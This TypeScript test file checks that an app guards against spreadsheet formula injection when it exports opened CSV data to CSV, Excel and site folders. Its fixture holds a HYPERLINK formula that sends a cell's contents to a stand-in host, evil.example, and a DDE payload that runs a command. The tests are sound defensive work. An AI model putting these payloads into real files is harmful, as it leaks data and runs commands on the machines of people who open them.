import { unzipSync } from 'fflate'
import Papa from 'papaparse'
import { buildDossier } from '@/lib/dossier/dossier'
import type { OpenSession } from '@/lib/open/session'
import { openText } from '@/tests/open/tool-session'

const LINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'
const QUOTED = `"${LINK.replaceAll('"', '""')}"`

/** A file whose header and cells would run as formulas, one row of it with something wrong. */
const HOSTILE = `name,value,${QUOTED}\nA,5,"@x;=cmd|'/C calc'!A0"\nB,garbage,=y\n"C;=1+1",6,-5\n`

async function records(session: OpenSession, which: 'csv' | 'excel' | 'rejected'): Promise<string[][]> {
  const text = (await (await session.download(which, 'en'))?.text()) ?? ''
  return Papa.parse<string[]>(text.replace('\uFEFF', '').trimEnd(), { delimiter: ',' }).data
}

describe('formulas in an opened file', () => {
  test.each(['csv', 'excel'] as const)(
    'the header and the cells of the rows shown are guarded (%s)',
    async (form) => {
      const [header, ...rows] = await records(await openText(HOSTILE), form)
      expect(header?.[2]).toBe(`'${LINK}`)
      expect(rows.map((row) => row.slice(0, 3))).toEqual([
        ['A', '5', "'@x;'=cmd|'/C calc'!A0"],
        ["C;'=1+1", '6', '-5'],
      ])
    },
  )

  test('the header and the cells of the rows that need attention are guarded', async () => {
    const [header, row] = await records(await openText(HOSTILE), 'rejected')
    expect([header?.[2], row?.[2]]).toEqual([`'${LINK}`, "'=y"])
  })

  test('a downloaded file opens with the header and the cells of the first', async () => {
    const session = await openText(HOSTILE)
    const text = (await (await session.download('csv', 'en'))?.text()) ?? ''
    const again = await openText(text)
    for (const place of [0, 1]) {
      const cells = session.detail(place, 'en')?.cells
      expect(
        again
          .detail(place, 'en')
          ?.cells.slice(0, 3)
          .map(({ column, cell }) => [column, cell]),
      ).toEqual(cells?.map(({ column, cell }) => [column, cell]))
    }
  })

  test('in the folder of a site every cell is guarded, and the site is built with the cells as they were', async () => {
    const { zip } = await (await openText('name,value,note\n=1+1,5,@SUM(A1)\nb;=2,6,x\n')).site(
      'a.csv',
      '2026-01-02',
      'en',
    )
    const files = Object.entries(unzipSync(zip ?? new Uint8Array())).map(
      ([name, bytes]) => [name.replace('data/', ''), new TextDecoder().decode(bytes)] as const,
    )
    const claims = Papa.parse<Record<string, string>>(
      files.find(([name]) => name === 'claims.csv')?.[1] ?? '',
      {
        header: true,
      },
    ).data
    expect(claims.map(({ statement_en, note_en }) => [statement_en, note_en]).slice(0, 2)).toEqual([
      ["'=1+1: 5", "'@SUM(A1)"],
      ["b;'=2: 6", 'x'],
    ])
    const built = buildDossier(Object.fromEntries(files) as Parameters<typeof buildDossier>[0])
    expect(built.ok && built.dossier.claims.map(({ statement }) => statement.en)).toEqual([
      '=1+1: 5',
      'b;=2: 6',
    ])
  })
})
